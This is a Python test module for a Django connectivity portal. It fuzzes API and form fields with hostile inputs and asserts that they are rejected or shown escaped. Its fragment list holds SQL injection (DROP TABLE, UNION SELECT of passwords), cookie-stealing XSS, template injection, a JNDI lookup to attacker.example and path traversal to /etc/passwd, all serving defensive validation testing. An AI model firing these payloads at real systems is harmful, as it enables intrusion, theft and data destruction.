"""Hostile input, generated: SQL and script fragments, template and path tricks, unicode direction
marks, NUL bytes and very long values, fed to every form and endpoint that takes customer input.

Every strictly-shaped field (GUIDs, Azure names, resource ids, DNS names, IPs, records) must answer
4xx with a message on that field and store nothing. Free text (comments, token names) may be
stored, but no page ever shows it unescaped.
"""

from __future__ import annotations

from typing import Any

import pytest
from django.core.cache import cache
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connectivity import services
from connectivity.models import ApiToken, Cluster, Comment, ConnectivityRequest, RequestState, User
from tests.factories import PeeringRequestFactory

pytestmark = [pytest.mark.django_db, pytest.mark.filterwarnings("ignore:No directory at"),
              pytest.mark.usefixtures("private_cache")]

# Each fragment breaks every strict rule (a quote, an angle bracket, a slash, a brace, a percent,
# a control or format character, or a length past every limit), so any string containing one is
# invalid for every strict field, whatever noise surrounds it.
FRAGMENTS = [
    "' OR '1'='1",
    "'; DROP TABLE connectivity_connectivityrequest;--",
    "\" UNION SELECT password FROM connectivity_user --",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "{{ 7*7 }}{% debug %}",
    "${jndi:ldap://attacker.example/a}",
    "../../../../etc/passwd",
    "%00%27%3Cscript%3E",
    "\x00",
    "a\x00b",
    "\u202egnp.exe",
    "Ω≈ç√∫'\u200b",
    "A" * 5000,
    "é" * 400 + "<",
]
NOISE = st.text(max_size=8)
HOSTILE = st.builds(lambda before, fragment, after: before + fragment + after,
                    NOISE, st.sampled_from(FRAGMENTS), NOISE)
CHECKS = settings(max_examples=12, deadline=None, derandomize=True,
                  suppress_health_check=[HealthCheck.function_scoped_fixture,
                                         HealthCheck.too_slow])


def shows_unescaped(html: str, value: str) -> bool:
    """True when the page carries the string with its markup intact: only escaping removes < >."""
    return any(ch in value for ch in "<>") and value.strip() in html


# --- the API ----------------------------------------------------------------------------------

STORAGE_ID = ("/subscriptions/55555555-5555-4555-8555-555555555555/resourceGroups/rg-data/"
              "providers/Microsoft.Storage/storageAccounts/stcontoso")
# A Private Link service (by alias) may name a DNS zone and record of the customer's.
PLS_ALIAS = "pls-api.2b7e5c1d-3f4a-4e6b-9c8d-7a6b5c4d3e2f.westeurope.azure.privatelinkservice"
PLS_DNS = {"link_target": PLS_ALIAS, "dns_zone_name": "contoso.internal", "dns_record_name": "api"}
IDENTITY_STORAGE_ID = ("/subscriptions/77777777-7777-4777-8777-777777777777/resourceGroups/"
                       "rg-data/providers/Microsoft.Storage/storageAccounts/contosodata")

API_BASE = {
    "vnet_peering": {"tenant_id": "44444444-4444-4444-8444-444444444444",
                     "subscription_id": "55555555-5555-4555-8555-555555555555",
                     "resource_group": "rg-contoso-network", "vnet_name": "vnet-hub"},
    "private_dns": {"zone_name": "corp.contoso.internal",
                    "records": [{"name": "db", "ip": "10.20.1.4"}]},
    "dns_forwarding": {"domain_name": "corp.contoso.com", "dns_servers": ["10.20.0.4"]},
    "hub_connection": {"tenant_id": "44444444-4444-4444-8444-444444444444",
                       "subscription_id": "55555555-5555-4555-8555-555555555555",
                       "resource_group": "rg-contoso-network", "hub_name": "hub-weu"},
    "private_endpoint": {"link_target": STORAGE_ID, "group_id": "blob"},
    "workload_identity": {"resource_id": IDENTITY_STORAGE_ID, "role": "Storage Blob Data Reader"},
}
API_FIELDS = [
    ("vnet_peering", "tenant_id"), ("vnet_peering", "subscription_id"),
    ("vnet_peering", "resource_group"), ("vnet_peering", "vnet_name"),
    ("vnet_peering", "vnet_id"), ("vnet_peering", "allow_forwarded_traffic"),
    ("vnet_peering", "use_remote_gateways"),
    ("private_dns", "zone_name"), ("private_dns", "records.name"), ("private_dns", "records.ip"),
    ("dns_forwarding", "domain_name"), ("dns_forwarding", "dns_servers"),
    ("hub_connection", "tenant_id"), ("hub_connection", "subscription_id"),
    ("hub_connection", "resource_group"), ("hub_connection", "hub_name"),
    ("hub_connection", "hub_id"), ("hub_connection", "associated_route_table"),
    ("hub_connection", "propagated_route_tables"),
    ("private_endpoint", "link_target"), ("private_endpoint", "group_id"),
    ("private_endpoint", "dns_zone_name"), ("private_endpoint", "dns_record_name"),
    ("workload_identity", "resource_id"), ("workload_identity", "role"),
]


def api_payload(cluster: Cluster, kind: str, field: str, value: str) -> dict[str, Any]:
    payload: dict[str, Any] = {"cluster": cluster.pk, "kind": kind, "submit": False,
                               **{k: v for k, v in API_BASE[kind].items()}}
    if field == "records.name":
        payload["records"] = [{"name": value, "ip": "10.20.1.4"}]
    elif field == "records.ip":
        payload["records"] = [{"name": "db", "ip": value}]
    elif field in ("dns_servers", "propagated_route_tables"):
        payload[field] = [value]
    elif field == "hub_id":
        payload = {k: v for k, v in payload.items()
                   if k not in ("subscription_id", "resource_group", "hub_name")}
        payload["hub_id"] = value
    elif field in ("dns_zone_name", "dns_record_name"):
        payload = {**{k: v for k, v in payload.items() if k != "group_id"}, **PLS_DNS,
                   field: value}
    elif field == "vnet_id":
        payload = {k: v for k, v in payload.items()
                   if k not in ("subscription_id", "resource_group", "vnet_name")}
        payload["vnet_id"] = value
    else:
        payload[field] = value
    return payload


@pytest.mark.parametrize("kind, field", API_FIELDS)
@CHECKS
@given(value=HOSTILE)
def test_api_refuses_hostile_values_with_a_field_message(
    customer: User, dedicated_cluster: Cluster, kind: str, field: str, value: str
) -> None:
    client = Client()
    client.force_login(customer)
    before = ConnectivityRequest.objects.count()
    response = client.post("/api/v1/requests/", api_payload(dedicated_cluster, kind, field, value),
                           content_type="application/json")
    assert response.status_code == 400, (value, response.content[:500])
    errors = response.json().get("errors", {})
    root = field.split(".")[0]
    assert any(key.split(".")[0] == root for key in errors), (field, errors)
    assert all(messages for messages in errors.values())
    assert ConnectivityRequest.objects.count() == before


@CHECKS
@given(value=HOSTILE)
def test_api_comment_is_refused_or_stored_as_text(
    customer: User, dedicated_cluster: Cluster, value: str
) -> None:
    cache.clear()  # each example is one message, not a flood
    req = PeeringRequestFactory(cluster=dedicated_cluster, state=RequestState.AWAITING_GRANT)
    client = Client()
    client.force_login(customer)
    response = client.post(f"/api/v1/requests/{req.pk}/comments/", {"body": value},
                           content_type="application/json")
    assert response.status_code in (201, 400), response.content[:500]
    if response.status_code == 400:
        assert "body" in response.json()["errors"]
        assert not req.comments.exists()
        return
    assert response["Content-Type"].startswith("application/json")
    page = client.get(f"/requests/{req.pk}/").content.decode()
    assert not shows_unescaped(page, value)


# --- the portal's forms -------------------------------------------------------------------------

PORTAL_BASE = {
    "vnet_peering": {"vnet_peering-tenant_id": "44444444-4444-4444-8444-444444444444",
                     "vnet_peering-subscription_id": "55555555-5555-4555-8555-555555555555",
                     "vnet_peering-resource_group": "rg-contoso-network",
                     "vnet_peering-vnet_name": "vnet-hub"},
    "private_dns": {"private_dns-zone_name": "corp.contoso.internal",
                    "private_dns-records": "db 10.20.1.4"},
    "dns_forwarding": {"dns_forwarding-domain_name": "corp.contoso.com",
                       "dns_forwarding-dns_servers": "10.20.0.4"},
    "hub_connection": {"hub_connection-tenant_id": "44444444-4444-4444-8444-444444444444",
                       "hub_connection-subscription_id": "55555555-5555-4555-8555-555555555555",
                       "hub_connection-resource_group": "rg-contoso-network",
                       "hub_connection-hub_name": "hub-weu"},
    "private_endpoint": {"private_endpoint-link_target": STORAGE_ID,
                         "private_endpoint-group_id": "blob"},
    "workload_identity": {"workload_identity-resource_id": IDENTITY_STORAGE_ID,
                          "workload_identity-role": "Storage Blob Data Reader"},
}
PORTAL_FIELDS = [
    ("vnet_peering", "tenant_id"), ("vnet_peering", "subscription_id"),
    ("vnet_peering", "resource_group"), ("vnet_peering", "vnet_name"),
    ("vnet_peering", "vnet_resource_id"),
    ("private_dns", "zone_name"), ("private_dns", "records"),
    ("dns_forwarding", "domain_name"), ("dns_forwarding", "dns_servers"),
    ("hub_connection", "tenant_id"), ("hub_connection", "subscription_id"),
    ("hub_connection", "resource_group"), ("hub_connection", "hub_name"),
    ("hub_connection", "hub_resource_id"), ("hub_connection", "associated_route_table"),
    ("hub_connection", "propagated_route_tables"),
    ("private_endpoint", "link_target"), ("private_endpoint", "group_id"),
    ("private_endpoint", "dns_zone_name"), ("private_endpoint", "dns_record_name"),
    ("workload_identity", "resource_id"), ("workload_identity", "role"),
]
# A checkbox carries no text: any value ticks it, so there is nothing hostile to refuse.
PORTAL_CHECKBOXES = {("vnet_peering", "allow_forwarded_traffic"),
                     ("vnet_peering", "use_remote_gateways")}


def test_every_field_of_every_kind_is_fed_hostile_values() -> None:
    """A new kind or field cannot skip the tests below: the API's and the wizard's fields of
    every kind, from its spec, are all listed."""
    from connectivity import kinds

    api = {(kind, field.split(".")[0]) for kind, field in API_FIELDS}
    portal = set(PORTAL_FIELDS) | PORTAL_CHECKBOXES
    for kind in kinds.all_kinds():
        assert kind.key in API_BASE and kind.key in PORTAL_BASE, kind.key
        for spec in kind.spec:
            if not spec.form_only:
                assert (kind.key, spec.name) in api, f"API_FIELDS lacks {kind.key}.{spec.name}"
            if not spec.api_only:
                assert (kind.key, spec.name) in portal, (
                    f"PORTAL_FIELDS lacks {kind.key}.{spec.name}")


@pytest.mark.parametrize("kind, field", PORTAL_FIELDS)
@CHECKS
@given(value=HOSTILE)
def test_wizard_refuses_hostile_values_with_a_field_message(
    customer: User, dedicated_cluster: Cluster, kind: str, field: str, value: str
) -> None:
    client = Client()
    client.force_login(customer)
    before = ConnectivityRequest.objects.count()
    data = {"cluster": str(dedicated_cluster.pk), "kind": kind, **PORTAL_BASE[kind],
            f"{kind}-{field}": value}
    if field == "records":
        data[f"{kind}-{field}"] = f"{value} 10.20.1.4"
    elif field in ("dns_zone_name", "dns_record_name"):
        data.pop(f"{kind}-group_id")
        data.update({f"{kind}-{name}": v for name, v in PLS_DNS.items()})
        data[f"{kind}-{field}"] = value
    response = client.post("/requests/new/", data)
    assert response.status_code == 400, (value, response.status_code)
    form = response.context["kind_forms"][kind]
    assert form.errors.get(field), (field, form.errors)
    assert ConnectivityRequest.objects.count() == before
    assert not shows_unescaped(response.content.decode(), value)


@pytest.mark.parametrize("kind, field", PORTAL_FIELDS)
@CHECKS
@given(value=HOSTILE)
def test_inline_validation_names_the_rule(
    customer: User, kind: str, field: str, value: str
) -> None:
    client = Client()
    client.force_login(customer)
    response = client.post("/requests/new/validate/",
                           {"field": f"{kind}-{field}", f"{kind}-{field}": value})
    assert response.status_code == 200
    assert response.json()["errors"], value


@CHECKS
@given(value=HOSTILE)
def test_portal_comment_is_refused_or_shown_escaped(
    customer: User, dedicated_cluster: Cluster, value: str
) -> None:
    cache.clear()  # each example is one message, not a flood
    req = PeeringRequestFactory(cluster=dedicated_cluster, state=RequestState.AWAITING_GRANT)
    client = Client(HTTP_ACCEPT="application/json")
    client.force_login(customer)
    response = client.post(f"/requests/{req.pk}/comments/", {"body": value})
    assert response.status_code < 500
    stored = Comment.objects.filter(request=req).first()
    if stored is None:
        assert response.status_code >= 400 or response.status_code in (302, 303)
        return
    assert "\x00" not in stored.body
    page = Client()
    page.force_login(customer)
    html = page.get(f"/requests/{req.pk}/").content.decode()
    assert not shows_unescaped(html, value)


@CHECKS
@given(value=HOSTILE)
def test_token_name_is_refused_or_shown_escaped(customer: User, value: str) -> None:
    client = Client()
    client.force_login(customer)
    before = ApiToken.objects.count()
    response = client.post("/api/tokens/", {"name": value, "scope": "read", "expires": "90"})
    assert response.status_code < 500
    if ApiToken.objects.count() == before:
        assert response.status_code == 400
        assert response.context["form"].errors.get("name"), value
    html = client.get("/api/tokens/").content.decode()
    assert not shows_unescaped(html, value)
    assert not shows_unescaped(response.content.decode(), value)


@CHECKS
@given(value=HOSTILE)
def test_reject_reason_reaches_the_customer_escaped(
    customer: User, approver: User, dedicated_cluster: Cluster, value: str
) -> None:
    req = PeeringRequestFactory(cluster=dedicated_cluster, state=RequestState.PENDING_APPROVAL)
    try:
        services.request_reject(request=req, actor=approver, reason=value)
    except Exception as exc:  # refusing the reason is fine; crashing on it is not
        assert exc.__class__.__name__ == "ValidationError", exc
        return
    client = Client()
    client.force_login(customer)
    html = client.get(f"/requests/{req.pk}/").content.decode()
    assert not shows_unescaped(html, value)


def test_a_script_in_a_comment_is_shown_as_text(customer: User, dedicated_cluster: Cluster) -> None:
    """The generated checks above are only worth something if the page shows the text at all."""
    req = PeeringRequestFactory(cluster=dedicated_cluster, state=RequestState.AWAITING_GRANT)
    client = Client()
    client.force_login(customer)
    client.post(f"/requests/{req.pk}/comments/", {"body": "<script>alert(1)</script>"})
    html = client.get(f"/requests/{req.pk}/").content.decode()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script>alert(1)</script>" not in html


def test_a_script_in_a_token_name_is_shown_as_text(customer: User) -> None:
    client = Client()
    client.force_login(customer)
    client.post("/api/tokens/", {"name": "<b>bold</b> token", "scope": "read", "expires": "90"})
    html = client.get("/api/tokens/").content.decode()
    assert "&lt;b&gt;bold&lt;/b&gt; token" in html
    assert "<b>bold</b>" not in html


# --- values stored before a rule existed (or by a superuser in the admin) -------------------

STORED_FRAGMENTS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
                    "{{ 7*7 }}{% debug %}", "é" * 400 + "<"]


def hostile_spec(kind_key: str, value: str) -> dict[str, Any]:
    """Every field of the kind's spec holding ``value`` (lists and records too)."""
    from connectivity import kinds

    spec: dict[str, Any] = {}
    for field in kinds.get(kind_key).stored_fields():
        default = field.default() if callable(field.default) else field.default
        if field.name == "records":
            spec[field.name] = [{"name": value, "ip": value}]
        elif isinstance(default, bool):
            spec[field.name] = False
        elif isinstance(default, list):
            spec[field.name] = [value]
        else:
            spec[field.name] = value
    return spec


@pytest.mark.parametrize("value", STORED_FRAGMENTS)
@pytest.mark.parametrize("kind", list(API_BASE))
def test_stored_hostile_values_are_shown_escaped_in_the_console_plan_and_the_portal(
    customer: User, approver: User, dedicated_cluster: Cluster, kind: str, value: str
) -> None:
    """The console's review (with its plan of what approval creates), the customer's request
    and grant pages: never a 500, never the markup."""
    from tests.console.conftest import mfa_signed_in

    request = ConnectivityRequest.objects.create(
        organization=dedicated_cluster.organization, cluster=dedicated_cluster, kind=kind,
        state=RequestState.PENDING_APPROVAL, created_by=customer, spec=hostile_spec(kind, value))
    review = mfa_signed_in(approver).get(f"/console/requests/{request.pk}/")
    assert review.status_code == 200, review.content[:500]
    html = review.content.decode()
    assert 'aria-labelledby="plan-h"' in html
    assert not shows_unescaped(html, value)
    client = Client(raise_request_exception=False)
    client.force_login(customer)
    for path in (f"/requests/{request.pk}/", f"/requests/{request.pk}/grant/", "/"):
        response = client.get(path)
        assert response.status_code < 500, (path, response.status_code)
        assert not shows_unescaped(response.content.decode(), value), path
